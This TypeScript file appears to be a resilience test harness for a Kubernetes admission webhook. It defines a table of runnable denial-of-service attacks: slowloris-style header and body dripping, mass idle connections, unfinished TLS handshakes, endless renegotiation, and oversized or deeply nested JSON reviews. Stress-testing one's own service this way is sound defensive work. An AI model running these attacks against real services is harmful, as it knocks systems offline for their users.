/** What somebody who reaches the port can do to it. Each attack goes on, with new connections for those that it loses, until it is told to stop. */
import { once } from 'node:events';
import { connect as connectTcp, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls, type ConnectionOptions, type TLSSocket } from 'node:tls';

export interface Victim {
  readonly host: string;
  readonly port: number;
  /** Where the attack comes from. */
  readonly localAddress: string;
}

export type Attack = (victim: Victim, signal: AbortSignal) => Promise<void>;

const mebibyte = 1024 * 1024;
/** The most that the server reads. */
const maxBody = 37 * mebibyte;

const post = (headers: string, path = '/mutate'): string =>
  `POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n${headers}\r\n`;
const review = (object: string): string =>
  `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"1","operation":"CREATE","namespace":"shop","resource":{"group":"","version":"v1","resource":"pods"},"object":${object}}}`;
const whole = (body: string): string => `${post(`Content-Length: ${Buffer.byteLength(body)}\r\n`)}${body}`;
const repeated = (text: string, count: number, between = ''): string => Array.from({ length: count }, () => text).join(between);

/** Keeps that many connections busy; a connection that ends is opened anew. */
async function keep(count: number, signal: AbortSignal, session: () => Promise<void>): Promise<void> {
  await Promise.all(
    Array.from({ length: count }, async () => {
      while (!signal.aborted) {
        await session().catch(() => {});
        await sleep(5);
      }
    }),
  );
}

/** A TCP connection until it closes or the attack ends. */
async function tcp({ host, port, localAddress }: Victim, signal: AbortSignal, talk: (socket: Socket) => Promise<unknown>): Promise<void> {
  const socket = connectTcp({ host, port, localAddress });
  await until(socket, signal, 'connect', talk);
}

async function tls(
  { host, port, localAddress }: Victim,
  signal: AbortSignal,
  talk: (socket: TLSSocket) => Promise<unknown>,
  options: ConnectionOptions = {},
): Promise<void> {
  const through: object = { localAddress };
  const socket = connectTls({ host, port, ...through, rejectUnauthorized: false, ALPNProtocols: ['http/1.1'], ...options });
  await until(socket, signal, 'secureConnect', talk);
}

async function until<T extends Socket>(
  socket: T,
  signal: AbortSignal,
  ready: string,
  talk: (socket: T) => Promise<unknown>,
): Promise<void> {
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  const stop = (): void => void socket.destroy();
  signal.addEventListener('abort', stop);
  socket.on('error', () => {});
  socket.setMaxListeners(0);
  try {
    await Promise.race([once(socket, ready, { signal }), closed]);
    if (!socket.destroyed) await Promise.race([talk(socket), closed]);
  } finally {
    socket.destroy();
    signal.removeEventListener('abort', stop);
  }
}

/** Resolves when the server ends the connection; what it sends is thrown away. */
const forever = async (socket: Socket): Promise<void> => {
  socket.resume();
  await once(socket, 'close');
};

async function write(socket: Socket, bytes: string | Buffer): Promise<void> {
  if (!socket.destroyed && !socket.write(bytes)) await Promise.race([once(socket, 'drain'), once(socket, 'close')]);
}

async function drip(socket: Socket, first: string, next: string, pause: number): Promise<void> {
  socket.resume();
  await write(socket, first);
  while (!socket.destroyed) {
    await write(socket, next);
    await sleep(pause);
  }
}

/** Sends all but the last byte of a body as large as is read, and waits. */
const largeBody = Buffer.alloc(mebibyte, ' ');
async function almostAll(socket: Socket, size: number): Promise<void> {
  socket.resume();
  await write(socket, post(`Content-Length: ${size}\r\n`));
  for (let sent = 0; sent + mebibyte < size && !socket.destroyed; sent += mebibyte) await write(socket, largeBody);
  await forever(socket);
}

const send =
  (message: () => string): ((socket: Socket) => Promise<void>) =>
  async (socket) => {
    socket.resume();
    while (!socket.destroyed) {
      await write(socket, message());
      await Promise.race([once(socket, 'data'), once(socket, 'close')]);
    }
  };

/** Reviews that cost more than their size. */
const images = (): string => `{"metadata":{},"spec":{"containers":[${repeated('{"image":"n"}', 224_680, ',')}]}}`;
const escaped = (): string =>
  `{"metadata":{},"spec":{"containers":[{"name":"a","image":"nginx","args":["${repeated('\\u003c', 3 * mebibyte)}"]}]}}`;
const wide = (): string => escaped().replace('"nginx"', '"nginx","command":["\u00e9"]');
const annotations = (): string =>
  `{"metadata":{"annotations":{${Array.from({ length: 250_000 }, (_value, n) => `"a${n}":"b"`).join(',')}}},"spec":{"containers":[{"name":"a","image":"nginx"}]}}`;
const empties = (): string => `{"metadata":{},"spec":{"containers":[${repeated('{}', 2_000_000, ',')}]}}`;
const nested = (): string => `{"metadata":{},"spec":{"x":${'['.repeat(5_000)}${']'.repeat(5_000)}}}`;
const manyImages = (count: number): string =>
  `{"metadata":{},"spec":{"containers":[${Array.from({ length: count }, (_value, n) => `{"name":"c${n}","image":"nginx:${n}"}`).join(',')}]}}`;

const heavy =
  (object: () => string, connections: number): Attack =>
  async (victim, signal) => {
    const message = whole(review(object()));
    const session = send(() => message);
    await keep(connections, signal, () => tls(victim, signal, session));
  };

export const attacks: Readonly<Record<string, Attack>> = {
  'bodies in chunks of one byte': (victim, signal) =>
    keep(8, signal, () =>
      tls(victim, signal, (socket) => drip(socket, post('Transfer-Encoding: chunked\r\n'), repeated('1\r\n \r\n', 10_000), 0)),
    ),
  'bodies without their last byte': (victim, signal) => keep(24, signal, () => tls(victim, signal, (socket) => almostAll(socket, maxBody))),
  'bodies of 8 MiB without their last byte': (victim, signal) =>
    keep(24, signal, () => tls(victim, signal, (socket) => almostAll(socket, 8 * mebibyte))),
  'a huge Content-Length, a byte at a time': (victim, signal) =>
    keep(100, signal, () => tls(victim, signal, (socket) => drip(socket, post(`Content-Length: ${2 ** 50}\r\n`), ' ', 500))),
  'bodies a byte at a time': (victim, signal) =>
    keep(600, signal, () => tls(victim, signal, (socket) => drip(socket, post('Content-Length: 5000\r\n'), ' ', 500))),
  'headers a byte at a time': (victim, signal) =>
    keep(600, signal, () => tls(victim, signal, (socket) => drip(socket, 'POST /mutate HTTP/1.1\r\nHost: a\r\nX: ', 'a', 500))),
  'idle connections': (victim, signal) => keep(3_500, signal, () => tls(victim, signal, forever)),
  'idle connections after a request': (victim, signal) =>
    keep(1_500, signal, () =>
      tls(victim, signal, async (socket) => {
        await write(socket, 'GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n');
        await forever(socket);
      }),
    ),
  'handshakes that are never finished': (victim, signal) =>
    keep(1_500, signal, () =>
      tcp(victim, signal, async (socket) => {
        await write(socket, Buffer.from('160301020001', 'hex'));
        await forever(socket);
      }),
    ),
  'handshakes without end': (victim, signal) => keep(8, signal, () => tls(victim, signal, async () => {})),
  'renegotiation without end': (victim, signal) =>
    keep(4, signal, () =>
      tls(
        victim,
        signal,
        async (socket) => {
          socket.resume();
          while (!socket.destroyed) await new Promise((resolve) => socket.renegotiate({}, resolve));
        },
        { maxVersion: 'TLSv1.2' },
      ),
    ),
  'responses that are never read': (victim, signal) => {
    const message = whole(review(manyImages(3_000)));
    return keep(64, signal, () =>
      tls(victim, signal, async (socket) => {
        socket.pause();
        for (let n = 0; n < 20 && !socket.destroyed; n += 1) await write(socket, message);
        await once(socket, 'close');
      }),
    );
  },
  'pipelined requests': (victim, signal) => {
    const batch = repeated('GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n', 200) + repeated(whole(review('{}')), 50);
    return keep(16, signal, () => tls(victim, signal, (socket) => drip(socket, '', batch, 0)));
  },
  'uploads that are broken off': (victim, signal) =>
    keep(16, signal, () =>
      tls(victim, signal, async (socket) => {
        await write(socket, post(`Content-Length: ${maxBody}\r\n`));
        await write(socket, largeBody);
      }),
    ),
  'other methods and paths with bodies': (victim, signal) => {
    const body = ' '.repeat(mebibyte);
    const messages = ['HEAD /healthz', 'GET /readyz', 'POST /nowhere', 'PUT /mutate'].map(
      (line) => `${line} HTTP/1.1\r\nHost: a\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
    );
    let next = 0;
    return keep(8, signal, () =>
      tls(
        victim,
        signal,
        send(() => messages[(next += 1) % messages.length] ?? ''),
      ),
    );
  },
  noise: (victim, signal) => keep(16, signal, () => tls(victim, signal, async (socket) => await write(socket, Buffer.alloc(4096, 0xa5)))),
  '3,000 images': heavy(() => manyImages(3_000), 4),
  '224,680 images': heavy(images, 4),
  '20,000 images': heavy(() => manyImages(20_000), 4),
  '3 Mi escaped characters': heavy(escaped, 8),
  '3 Mi escaped characters and one that is two bytes': heavy(wide, 8),
  '250,000 annotations': heavy(annotations, 4),
  '2,000,000 empty containers': heavy(empties, 4),
  'deep nesting': heavy(nested, 4),
};
